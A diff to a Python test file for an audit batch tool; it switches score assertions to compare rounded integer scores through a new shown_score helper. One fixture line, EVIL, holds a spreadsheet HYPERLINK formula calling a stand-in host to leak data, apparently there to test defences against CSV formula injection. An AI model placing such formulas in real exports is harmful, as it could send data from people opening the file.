@@ -14,6 +14,7 @@ import pytest
 
 from audit.batch import slugify
 from audit.demo import build
+from audit.result import shown_score
 
 FINDABLE = [sys.executable, "-m", "audit"]
 EVIL = '=HYPERLINK("http://evil.example/?leak","click")'
@@ -121,7 +122,8 @@ def test_summary_csv_matches_the_reports(batch: tuple[Path, Path, Path]) -> None
     assert [r["status"] for r in rows] == ["ok", "ok", "failed"]
     for row in rows[:2]:
         report = json.loads((out / row["slug"] / "report.json").read_text(encoding="utf-8"))
-        assert float(row["score"]) == pytest.approx(report["score"])
+        # the score every output shows (one rounding rule), not a second precision
+        assert int(row["score"]) == shown_score(report["score"])
         assert row["band"] == report["band"]
         assert row["error"] == ""
     assert rows[0]["profiles_audited"] == f"bluesky:@{build.BSKY_HANDLE}"
@@ -165,7 +167,7 @@ def test_every_audit_is_in_the_history(batch: tuple[Path, Path, Path]) -> None:
     assert sorted(s["brand"] for s in stored) == ["Šiška Pekarna", "šiška  pekarna!"]
     scores = {s["brand"]: s["score"] for s in stored}
     rows = {r["brand"]: r for r in read_summary(batch[1])}
-    assert scores["Šiška Pekarna"] == pytest.approx(float(rows["Šiška Pekarna"]["score"]))
+    assert shown_score(scores["Šiška Pekarna"]) == int(rows["Šiška Pekarna"]["score"])
 
 
 def test_fail_under_exits_1_and_names_the_brands(batch: tuple[Path, Path, Path]) -> None:
